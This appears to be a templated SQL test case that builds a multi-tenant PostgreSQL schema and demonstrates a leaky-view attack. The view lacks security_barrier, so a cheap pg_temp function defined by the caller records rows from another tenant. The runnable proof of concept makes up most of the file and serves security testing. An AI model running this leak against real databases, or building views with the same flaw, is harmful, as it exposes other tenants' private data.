-- hole: a filtering view without security_barrier hands hidden rows to a cheap function of the caller
-- object: app.my_secret
-- attack: leak
-- seen: crossed
-- role: {app}
-- why: the planner runs the caller's cheaper function before the view's own filter; a function in pg_temp is enough.
CREATE ROLE {owner} NOLOGIN;
CREATE ROLE {app} LOGIN;
CREATE SCHEMA app AUTHORIZATION {owner};
SET ROLE {owner};
CREATE TABLE app.secret (tenant_id bigint NOT NULL, id bigint NOT NULL, body text NOT NULL, PRIMARY KEY (tenant_id, id));
ALTER TABLE app.secret ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON app.secret USING (tenant_id = nullif(current_setting('app.tenant_id', true), '')::bigint);
CREATE VIEW app.my_secret AS
  SELECT tenant_id, id, body FROM app.secret
  WHERE tenant_id = nullif(current_setting('app.tenant_id', true), '')::bigint;
GRANT USAGE ON SCHEMA app TO {app};
GRANT SELECT ON app.my_secret TO {app};
RESET ROLE;
INSERT INTO app.secret VALUES (1, 1, 'mine'), (2, 2, 'theirs');

-- session 1 as {app}
SET app.tenant_id = '1';
SELECT body FROM app.my_secret;
-- gives: mine
CREATE TEMP TABLE seen (body text);
CREATE FUNCTION pg_temp.peek(body text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001
  AS $$ BEGIN INSERT INTO pg_temp.seen VALUES (body); RETURN true; END $$;
SELECT count(*) FROM app.my_secret WHERE pg_temp.peek(body);
SELECT body FROM pg_temp.seen ORDER BY body;
-- gives: mine; theirs
